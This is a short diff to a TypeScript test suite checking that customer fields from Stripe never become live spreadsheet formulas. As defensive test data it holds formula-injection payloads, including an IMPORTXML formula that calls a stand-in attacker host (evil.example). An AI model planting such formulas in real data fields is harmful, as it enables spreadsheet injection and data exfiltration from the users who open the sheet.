@@ -4,7 +4,7 @@
 // with plausible arguments, and nothing may be read or changed. Then: text from Stripe never becomes a
 // formula in the sheet.
 import type { Emulator, RunAs } from '../../emulator/src';
-import { addLessonPack, addRow, install, records } from './harness';
+import { addLessonPack, addRow, COLLECT, install, records } from './harness';
 
 const ALICE = 'alice@example.com';
 
@@ -178,7 +178,7 @@ describe('text from Stripe that looks like a formula', () => {
       company: '@SUM(Clients!C:C)',
       address: { line1: '=IMPORTXML("http://evil.example","//a")', line2: '-2+3', postal_code: '75011', city: '+Paris' },
     };
-    const { event } = emu.stripe.pay({ lineItems: [{ price, quantity: 1 }], email: ALICE, ...customer });
+    const { event } = emu.stripe.pay({ lineItems: [{ price, quantity: 1 }], email: ALICE, session: COLLECT, ...customer });
     emu.deliverWebhook(String(event.id));
     const { event: second } = emu.stripe.pay({ lineItems: [{ price, quantity: 1 }], email: 'bob@example.com', name: '-1+1', phone: '0612345678' });
     emu.deliverWebhook(String(second.id));
